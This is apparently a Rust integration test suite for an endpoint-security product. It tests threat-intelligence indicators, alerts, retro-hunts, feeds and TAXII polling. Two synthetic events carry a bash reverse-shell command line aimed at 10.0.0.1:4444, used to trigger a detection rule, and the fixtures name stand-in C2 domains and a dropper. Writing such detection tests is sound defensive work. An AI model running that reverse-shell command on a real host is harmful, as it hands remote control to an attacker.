//! Threat intelligence end to end: indicators over the API (with bad input refused and
//! nothing half-done), hits on uploaded events becoming CustomTI alerts, an allow indicator
//! overriding a Sigma detection, retro-hunts over stored telemetry, entity pages, feeds
//! fetched over HTTP (and TAXII 2.1 from a real TAXII server when one can run here), and the
//! delta sync that agents keep their offline copy with.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{json, Value};
use vigil_intel::IntelSet;
use vigil_schema::{Col, Row, Table, Timestamp};
use vigil_uplink::spool::SpoolOptions;
use vigil_uplink::{IntelOptions, Uplink, UplinkOptions};

use crate::harness::{exec, rule_id, uplink, wait_until, Api, Fixture};

fn connection(remote_ip: &str, remote_url: Option<&str>, at: Timestamp) -> Row {
    let mut r = Row::event(Table::DeviceNetworkEvents, "ConnectionSuccess", at);
    r.put(Col::RemoteIP, remote_ip);
    r.put(Col::RemotePort, 443i32);
    if let Some(u) = remote_url {
        r.put(Col::RemoteUrl, u);
    }
    r.put(Col::InitiatingProcessFileName, "curl");
    r.put(Col::InitiatingProcessFolderPath, "/usr/bin/curl");
    r
}

fn add(api: &Api, body: Value) -> Value {
    let (st, v) = api.post("/api/v1/indicators", body.clone());
    assert_eq!(st, 200, "{body}: {v}");
    v
}

fn alerts_from(api: &Api, source: &str) -> Vec<Value> {
    api.alerts("")
        .into_iter()
        .filter(|a| a["DetectionSource"] == source)
        .collect()
}

#[test]
fn indicators_are_managed_over_the_api_and_bad_input_changes_nothing() {
    let fx = Fixture::new("dev-intel-api");
    let api = &fx.api;
    let ip = add(
        api,
        json!({ "type": "ip", "value": "203.0.113.7", "action": "block", "title": "C2 server", "ttl_seconds": 3600 }),
    );
    assert_eq!(ip["IndicatorType"], "ip");
    assert_eq!(ip["Action"], "block");
    assert_eq!(ip["Source"], "manual");
    assert!(!ip["ExpirationTime"].is_null());
    let dom = add(
        api,
        json!({ "type": "domain", "value": "*.Evil.Example.", "action": "audit" }),
    );
    assert_eq!(dom["IndicatorValue"], "evil.example");

    // Refusals name the problem and store nothing.
    for (body, needle) in [
        (
            json!({ "type": "ip", "value": "203.0.113.999", "action": "block" }),
            "value",
        ),
        (
            json!({ "type": "sha256", "value": "abc", "action": "block" }),
            "sha256",
        ),
        (
            json!({ "type": "ipv9", "value": "1.2.3.4", "action": "block" }),
            "type",
        ),
        (
            json!({ "type": "ip", "value": "1.2.3.4", "action": "explode" }),
            "action",
        ),
        (
            json!({ "type": "ip", "value": "1.2.3.4", "action": "block", "colour": "red" }),
            "colour",
        ),
        (
            json!({ "type": "ip", "value": "1.2.3.4", "action": "block", "expires_ms": 1 }),
            "past",
        ),
    ] {
        let (st, v) = api.post("/api/v1/indicators", body.clone());
        assert_eq!(st, 400, "{body}: {v}");
        assert!(v["error"].as_str().unwrap().contains(needle), "{body}: {v}");
    }
    let (st, v) = api.post(
        "/api/v1/indicators",
        json!({ "type": "ip", "value": "203.0.113.7", "action": "audit" }),
    );
    assert_eq!(st, 409, "{v}");
    let (_, list) = api.get("/api/v1/indicators");
    assert_eq!(list["total"], 2, "{list}");

    // Filters, paging, update, delete.
    let (_, v) = api.get("/api/v1/indicators?type=domain");
    assert_eq!(v["total"], 1);
    let (st, v) = api.get("/api/v1/indicators?limit=0");
    assert_eq!(st, 400, "{v}");
    let id = ip["IndicatorId"].as_u64().unwrap();
    let (st, v) = api.patch(
        &format!("/api/v1/indicators/{id}"),
        json!({ "action": "allow", "ttl_seconds": null }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["Action"], "allow");
    assert!(v["ExpirationTime"].is_null());
    let (st, _) = api.delete(&format!("/api/v1/indicators/{id}"));
    assert_eq!(st, 200);
    let (st, v) = api.get(&format!("/api/v1/indicators/{id}"));
    assert_eq!(st, 404, "{v}");
    let (st, v) = api.get("/api/v1/indicators/nope");
    assert_eq!(st, 400, "{v}");

    // An import is all or nothing.
    let bundle = json!({
        "type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d",
        "objects": [
            { "type": "indicator", "spec_version": "2.1", "id": "indicator--a932fcc6-e032-476c-826f-cb970a5a1ade",
              "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "name": "bad hash",
              "pattern": "[file:hashes.'SHA-256' = 'aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f']",
              "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z" },
            { "type": "indicator", "spec_version": "2.1", "id": "indicator--b932fcc6-e032-476c-826f-cb970a5a1ade",
              "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "name": "c2",
              "pattern": "[ipv4-addr:value = '198.51.100.0/24'] OR [domain-name:value = 'c2.bad.example']",
              "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z" }
        ]
    });
    let text = bundle.to_string();
    let (st, v) = api.post_raw(
        "/api/v1/indicators/import?format=stix&source=reports&action=block",
        text.as_bytes(),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(
        (v["read"].as_u64(), v["added"].as_u64()),
        (Some(3), Some(3)),
        "{v}"
    );
    let broken = text.replace(
        "[ipv4-addr:value = '198.51.100.0/24']",
        "[ipv4-addr:value = ",
    );
    let (st, v) = api.post_raw(
        "/api/v1/indicators/import?format=stix&source=reports2",
        broken.as_bytes(),
    );
    assert_eq!(st, 400, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("indicator--b932fcc6"),
        "the error names the record: {v}"
    );
    let (_, v) = api.get("/api/v1/indicators?source=reports2");
    assert_eq!(v["total"], 0);
    let (st, v) = api.post_raw("/api/v1/indicators/import?format=rss", b"x");
    assert_eq!(st, 400, "{v}");

    // Export → import elsewhere gives the same indicators.
    let (st, csv) = api.get_text("/api/v1/indicators/export");
    assert_eq!(st, 200);
    let (st, v) = api.post_raw(
        "/api/v1/indicators/import?format=csv&source=copy",
        csv.as_bytes(),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["added"].as_u64(), Some(4), "{v}\n{csv}");

    // A warning list keeps the values it covers out of imports.
    let list = json!({ "name": "Known CDNs", "version": 1, "description": "benign", "type": "hostname",
                       "list": ["cdn.good.example"] });
    let (st, v) = api.post_raw("/api/v1/warninglists", list.to_string().as_bytes());
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["Entries"], 1);
    let (st, v) = api.post_raw("/api/v1/warninglists", b"{\"name\": 3}");
    assert_eq!(st, 400, "{v}");
    let csv =
        "type,value,action\ndomain,img.cdn.good.example,block\ndomain,cdn.bad.example,block\n";
    let (st, v) = api.post_raw(
        "/api/v1/indicators/import?format=csv&source=wl",
        csv.as_bytes(),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(
        (v["added"].as_u64(), v["skipped"].as_u64()),
        (Some(1), Some(1)),
        "{v}"
    );
    assert!(
        v["skipped_records"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("Known CDNs"),
        "{v}"
    );
}

#[test]
fn hits_raise_custom_ti_alerts_and_an_allow_indicator_overrides_a_detection() {
    let fx = Fixture::new("dev-intel-hits");
    let api = &fx.api;
    add(
        api,
        json!({ "type": "cidr", "value": "203.0.113.0/24", "action": "block", "severity": "high", "title": "Known C2 network" }),
    );
    add(
        api,
        json!({ "type": "domain", "value": "evil.example", "action": "audit", "title": "Phishing domain" }),
    );
    let quiet = add(
        api,
        json!({ "type": "ip", "value": "192.0.2.1", "action": "audit", "generate_alert": false }),
    );
    assert_eq!(quiet["GenerateAlert"], false);
    // The reverse shell's image is vouched for by the team.
    let image_sha = "11".repeat(32);
    add(
        api,
        json!({ "type": "sha256", "value": image_sha, "action": "allow", "title": "Our admin tool" }),
    );
    std::thread::sleep(Duration::from_millis(500));

    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let now = Timestamp::now();
    let mut allowed_shell = exec(
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "/usr/sbin/nginx",
        "www-data",
        5001,
    );
    allowed_shell.put(Col::SHA256, image_sha.clone());
    up.send(vec![
        connection("203.0.113.50", None, now),
        connection(
            "198.51.100.9",
            Some("https://www.c2.evil.example/gate.php"),
            now,
        ),
        connection("192.0.2.1", None, now),
        allowed_shell,
    ]);
    wait_until("the CustomTI alerts", 30, || {
        alerts_from(api, "CustomTI").len() >= 2
    });
    let ti = alerts_from(api, "CustomTI");
    assert_eq!(ti.len(), 2, "{ti:?}");
    let net = ti
        .iter()
        .find(|a| a["Title"] == "Known C2 network")
        .unwrap();
    assert_eq!(net["Severity"], "High");
    assert_eq!(net["Category"], "CommandAndControl");
    let ev = net["Evidence"].as_array().unwrap();
    assert!(
        ev.iter().any(|e| e["entity"] == "Indicator"
            && e["IndicatorValue"] == "203.0.113.0/24"
            && e["MatchedValue"] == "203.0.113.50"),
        "{ev:?}"
    );
    assert!(ti.iter().any(|a| a["Title"] == "Phishing domain"));

    // The same shell without the vouched-for hash is a detection.
    let shell_rule = rule_id("command_and_control/bash_dev_tcp_reverse_shell.yml");
    assert!(
        !api.alerts("")
            .iter()
            .any(|a| a["RuleId"] == shell_rule.as_str()),
        "the allowed image raised the Sigma alert"
    );
    up.send(vec![exec(
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "/usr/sbin/nginx",
        "www-data",
        5002,
    )]);
    wait_until("the Sigma alert for the unvouched shell", 30, || {
        api.alerts("")
            .iter()
            .any(|a| a["RuleId"] == shell_rule.as_str())
    });
    let metrics = ureq::get(format!("{}/metrics", api.base))
        .call()
        .unwrap()
        .body_mut()
        .read_to_string()
        .unwrap();
    assert!(
        metrics.contains("vigil_intel_allowed_rows_total 1"),
        "{metrics}"
    );
    up.shutdown(Duration::from_secs(5));
}

#[test]
fn a_new_indicator_is_retro_hunted_in_stored_telemetry_and_has_an_entity_page() {
    let fx = Fixture::new("dev-intel-retro");
    let api = &fx.api;
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let hash = "ab".repeat(32);
    // Two days ago and now: a connection to the domain, a run of the file.
    let old = Timestamp(Timestamp::now().0 - 2 * 86_400_000_000_000);
    let mut run = exec(
        "/tmp/.x/dropper",
        "/tmp/.x/dropper -q",
        "/usr/bin/bash",
        "bob",
        77,
    );
    run.put(Col::SHA256, hash.clone());
    up.send(vec![
        connection("198.51.100.20", Some("cdn.stage2.example"), old),
        connection(
            "198.51.100.21",
            Some("http://stage2.example/p"),
            Timestamp::now(),
        ),
        run,
    ]);
    wait_until("the events stored", 30, || up.stats().events_acked == 3);
    assert!(alerts_from(api, "CustomTI").is_empty());

    let d = add(
        api,
        json!({ "type": "domain", "value": "stage2.example", "action": "block", "title": "Stage 2 host" }),
    );
    add(
        api,
        json!({ "type": "sha256", "value": hash, "action": "audit", "title": "Dropper" }),
    );
    wait_until("the retro-hunt alerts", 30, || {
        alerts_from(api, "CustomTI").len() >= 2
    });
    let ti = alerts_from(api, "CustomTI");
    let stage2 = ti.iter().find(|a| a["Title"] == "Stage 2 host").unwrap();
    assert_eq!(stage2["Hits"], 2, "both connections grouped: {stage2}");
    let ev = stage2["Evidence"].as_array().unwrap();
    assert!(
        ev.iter()
            .any(|e| e["FoundBy"] == "RetroHunt" && e["IndicatorId"] == d["IndicatorId"]),
        "{ev:?}"
    );

    // The entity pages see the prevalence, the alert and the indicators.
    let (st, f) = api.get(&format!("/api/v1/files/{}", hash.to_uppercase()));
    assert_eq!(st, 200, "{f}");
    assert_eq!(f["Prevalence"]["Devices"], 1, "{f}");
    assert_eq!(f["Names"][0]["FileName"], "dropper");
    assert_eq!(f["Indicators"]["Deciding"]["Title"], "Dropper");
    assert!(!f["Alerts"].as_array().unwrap().is_empty());
    let (st, dm) = api.get("/api/v1/domains/stage2.example");
    assert_eq!(st, 200, "{dm}");
    assert_eq!(dm["Prevalence"]["Events"], 2, "{dm}");
    assert_eq!(
        dm["Indicators"]["Deciding"]["IndicatorValue"],
        "stage2.example"
    );
    let (st, i) = api.get("/api/v1/ips/198.51.100.20?days=3");
    assert_eq!(st, 200, "{i}");
    assert_eq!(i["Prevalence"]["Events"], 1, "{i}");
    let (st, i) = api.get("/api/v1/ips/198.51.100.20?days=1");
    assert_eq!(st, 200);
    assert_eq!(i["Prevalence"]["Events"], 0, "older than the range: {i}");
    for bad in [
        "/api/v1/files/xyz",
        "/api/v1/ips/1.2.3",
        "/api/v1/domains/a..b",
        "/api/v1/ips/1.2.3.4?days=0",
    ] {
        let (st, v) = api.get(bad);
        assert_eq!(st, 400, "{bad}: {v}");
    }
    up.shutdown(Duration::from_secs(5));
}

/// An uplink that keeps the indicator cache in `dir` and records each set it is given.
fn syncing_uplink(fx: &Fixture, dir: &std::path::Path) -> (Uplink, Arc<Mutex<Vec<Arc<IntelSet>>>>) {
    let seen: Arc<Mutex<Vec<Arc<IntelSet>>>> = Arc::default();
    let s2 = Arc::clone(&seen);
    let mut opts = UplinkOptions::new(SpoolOptions::new(dir.join("spool")));
    opts.heartbeat_interval = Duration::from_millis(300);
    opts.intel = Some(IntelOptions {
        dir: dir.join("intel"),
        on_update: Arc::new(move |set| s2.lock().unwrap().push(set)),
        max_interval: Duration::from_millis(500),
    });
    (Uplink::start(fx.agent.clone(), opts).unwrap(), seen)
}

fn latest(seen: &Mutex<Vec<Arc<IntelSet>>>) -> Option<Arc<IntelSet>> {
    seen.lock().unwrap().last().cloned()
}

#[test]
fn agents_sync_by_delta_and_keep_a_copy_for_offline_use() {
    let fx = Fixture::new("dev-intel-sync");
    let api = &fx.api;
    let a = add(
        api,
        json!({ "type": "ip", "value": "203.0.113.7", "action": "block" }),
    );
    // Scoped to a group the device is not in: not sent.
    add(
        api,
        json!({ "type": "ip", "value": "203.0.113.8", "action": "block", "device_groups": ["servers"] }),
    );
    let dir = fx.dir.path().join("sync");
    let (up, seen) = syncing_uplink(&fx, &dir);
    wait_until("the first set", 30, || {
        latest(&seen).is_some_and(|s| s.ip_text("203.0.113.7").is_some())
    });
    assert!(latest(&seen).unwrap().ip_text("203.0.113.8").is_none());
    add(
        api,
        json!({ "type": "domain", "value": "bad.example", "action": "block" }),
    );
    wait_until("the delta", 30, || {
        latest(&seen).is_some_and(|s| s.domain("x.bad.example").is_some())
    });
    // Putting the device in the group brings the scoped one (a full resync for the group).
    let (st, v) = api.patch(
        "/api/v1/devices/dev-intel-sync",
        json!({ "group": "servers" }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["DeviceGroup"], "servers");
    wait_until("the scoped indicator", 30, || {
        latest(&seen).is_some_and(|s| s.ip_text("203.0.113.8").is_some())
    });
    let id = a["IndicatorId"].as_u64().unwrap();
    api.delete(&format!("/api/v1/indicators/{id}"));
    wait_until("the removal", 30, || {
        latest(&seen).is_some_and(|s| s.ip_text("203.0.113.7").is_none())
    });
    let held = up.stats().indicators;
    up.shutdown(Duration::from_secs(5));

    // Offline: a new uplink against a dead server still gets the cached set at once.
    let mut dead = fx.agent.clone();
    dead.server = "127.0.0.1:1".into();
    let seen2: Arc<Mutex<Vec<Arc<IntelSet>>>> = Arc::default();
    let s2 = Arc::clone(&seen2);
    let mut opts = UplinkOptions::new(SpoolOptions::new(dir.join("spool")));
    opts.intel = Some(IntelOptions {
        dir: dir.join("intel"),
        on_update: Arc::new(move |set| s2.lock().unwrap().push(set)),
        max_interval: Duration::from_secs(60),
    });
    let offline = Uplink::start(dead, opts).unwrap();
    wait_until("the cached set", 10, || latest(&seen2).is_some());
    let set = latest(&seen2).unwrap();
    assert_eq!(set.len() as u64, held);
    assert!(set.domain("bad.example").is_some());
    assert!(set.ip_text("203.0.113.7").is_none());
    offline.shutdown(Duration::from_millis(200));
}

/// Serves `body` to every request on a loopback port (or a 404 when `None`), until dropped.
fn http_file(body: Option<Vec<u8>>) -> SocketAddr {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { break };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let head = match &body {
                Some(b) => format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    b.len()
                ),
                None => "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    .to_string(),
            };
            let _ = s.write_all(head.as_bytes());
            if let Some(b) = &body {
                let _ = s.write_all(b);
            }
        }
    });
    addr
}

#[test]
fn a_feed_is_fetched_and_replaces_what_it_brought_and_a_failing_one_changes_nothing() {
    let fx = Fixture::new("dev-intel-feed");
    let api = &fx.api;
    let csv = "type,value,action,title\nip,198.51.100.1,block,one\ndomain,feed.example,audit,two\n";
    let addr = http_file(Some(csv.as_bytes().to_vec()));
    let (st, f) = api.post(
        "/api/v1/feeds",
        json!({ "name": "team-list", "format": "csv", "url": format!("http://{addr}/list.csv"), "interval_seconds": 3600 }),
    );
    assert_eq!(st, 200, "{f}");
    let (st, r) = api.post("/api/v1/feeds/team-list/refresh", json!({}));
    assert_eq!(st, 200, "{r}");
    assert_eq!(r["added"], 2, "{r}");
    let (_, v) = api.get("/api/v1/indicators?source=team-list");
    assert_eq!(v["total"], 2);
    let (_, f) = api.get("/api/v1/feeds/team-list");
    assert_eq!(f["LastStatus"], "ok", "{f}");
    assert_eq!(f["LastCount"], 2);

    // A broken source: the refresh fails, says why, and keeps the indicators.
    let dead = http_file(None);
    let (st, f2) = api.post(
        "/api/v1/feeds",
        json!({ "name": "gone", "format": "csv", "url": format!("http://{dead}/x.csv") }),
    );
    assert_eq!(st, 200, "{f2}");
    let (st, r) = api.post("/api/v1/feeds/gone/refresh", json!({}));
    assert_eq!(st, 502, "{r}");
    assert!(r["error"].as_str().unwrap().contains("404"), "{r}");
    let (_, f2) = api.get("/api/v1/feeds/gone");
    assert_eq!(f2["LastStatus"], "error");
    for (body, needle) in [
        (
            json!({ "name": "x", "format": "rss", "url": "http://127.0.0.1:1/" }),
            "format",
        ),
        (
            json!({ "name": "y", "format": "csv", "url": "ftp://example/" }),
            "url",
        ),
        (
            json!({ "name": "team-list", "format": "csv", "url": "http://127.0.0.1:1/" }),
            "exists",
        ),
    ] {
        let (st, v) = api.post("/api/v1/feeds", body.clone());
        assert!(st == 400 || st == 409, "{body}: {v}");
        assert!(v["error"].as_str().unwrap().contains(needle), "{body}: {v}");
    }
    // Removing the feed removes its indicators.
    let (st, v) = api.delete("/api/v1/feeds/team-list");
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["indicators_removed"], 2);
}

/// A TAXII 2.1 server (OASIS's medallion, from PyPI) on the corpus's test collections, or
/// `None` (with the reason printed) when it cannot run here.
struct Taxii {
    child: std::process::Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl Drop for Taxii {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn taxii_server() -> Option<Taxii> {
    let data = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpora/intel/taxii/default_data.json");
    if !data.exists() {
        println!("skipped: {} is absent", data.display());
        return None;
    }
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("data.json");
    std::fs::copy(&data, &copy).unwrap();
    let config = dir.path().join("config.json");
    std::fs::write(
        &config,
        json!({
            "backend": { "module": "medallion.backends.memory_backend", "module_class": "MemoryBackend", "filename": copy },
            "users": { "analyst": "s3cret" },
            "taxii": { "max_page_size": 2 }
        })
        .to_string(),
    )
    .unwrap();
    let port = crate::harness::free_addr().port();
    let child = match std::process::Command::new("medallion")
        .args(["--host", "127.0.0.1", "--port", &port.to_string()])
        .arg(&config)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
    {
        Ok(c) => c,
        Err(e) => {
            println!("skipped: cannot start medallion (pip install medallion): {e}");
            return None;
        }
    };
    let t = Taxii {
        child,
        port,
        _dir: dir,
    };
    wait_until("the TAXII server", 30, || {
        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
    });
    Some(t)
}

#[test]
fn a_taxii_collection_is_polled_with_added_after_and_pages() {
    let Some(taxii) = taxii_server() else { return };
    let fx = Fixture::new("dev-intel-taxii");
    let api = &fx.api;
    let root = format!("http://127.0.0.1:{}/trustgroup1/", taxii.port);
    // Wrong credentials: the refresh fails and says so.
    let (st, v) = api.post(
        "/api/v1/feeds",
        json!({ "name": "taxii-bad", "format": "taxii", "url": root, "collection": "High Value Indicator Collection",
                "username": "analyst", "secret": "wrong" }),
    );
    assert_eq!(st, 200, "{v}");
    let (st, v) = api.post("/api/v1/feeds/taxii-bad/refresh", json!({}));
    assert_eq!(st, 502, "{v}");
    assert!(v["error"].as_str().unwrap().contains("401"), "{v}");

    let (st, v) = api.post(
        "/api/v1/feeds",
        json!({ "name": "taxii", "format": "taxii", "url": root, "collection": "High Value Indicator Collection",
                "username": "analyst", "secret": "s3cret", "action": "block" }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["SecretSet"], true);
    assert!(v.get("Secret").is_none(), "the secret is never shown: {v}");
    // The collection holds five objects over three pages of two; two are indicators (a
    // file hash and a URL).
    let (st, r) = api.post("/api/v1/feeds/taxii/refresh", json!({}));
    assert_eq!(st, 200, "{r}");
    assert_eq!(r["added"], 2, "{r}");
    let (_, f) = api.get("/api/v1/feeds/taxii");
    assert_eq!(f["Cursor"], "2017-12-31T13:49:53.935000Z", "{f}");
    let (_, list) = api.get("/api/v1/indicators?source=taxii");
    let values: Vec<&str> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["IndicatorValue"].as_str())
        .collect();
    assert!(values.contains(&"http://x4z9arb.cn/4712"), "{values:?}");
    assert!(
        values.contains(&"ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c"),
        "{values:?}"
    );
    // Polling again from the cursor brings nothing new and keeps what is there.
    let (st, r) = api.post("/api/v1/feeds/taxii/refresh", json!({}));
    assert_eq!(st, 200, "{r}");
    assert_eq!(
        (r["read"].as_u64(), r["removed"].as_u64()),
        (Some(0), Some(0)),
        "{r}"
    );
    let (_, list) = api.get("/api/v1/indicators?source=taxii");
    assert_eq!(list["total"], 2);
    // An unknown collection is named.
    let (_, v) = api.post(
        "/api/v1/feeds",
        json!({ "name": "taxii-x", "format": "taxii", "url": root, "collection": "Nope",
                "username": "analyst", "secret": "s3cret" }),
    );
    assert_eq!(v["Name"], "taxii-x");
    let (st, v) = api.post("/api/v1/feeds/taxii-x/refresh", json!({}));
    assert_eq!(st, 502, "{v}");
    assert!(v["error"].as_str().unwrap().contains("Nope"), "{v}");
}
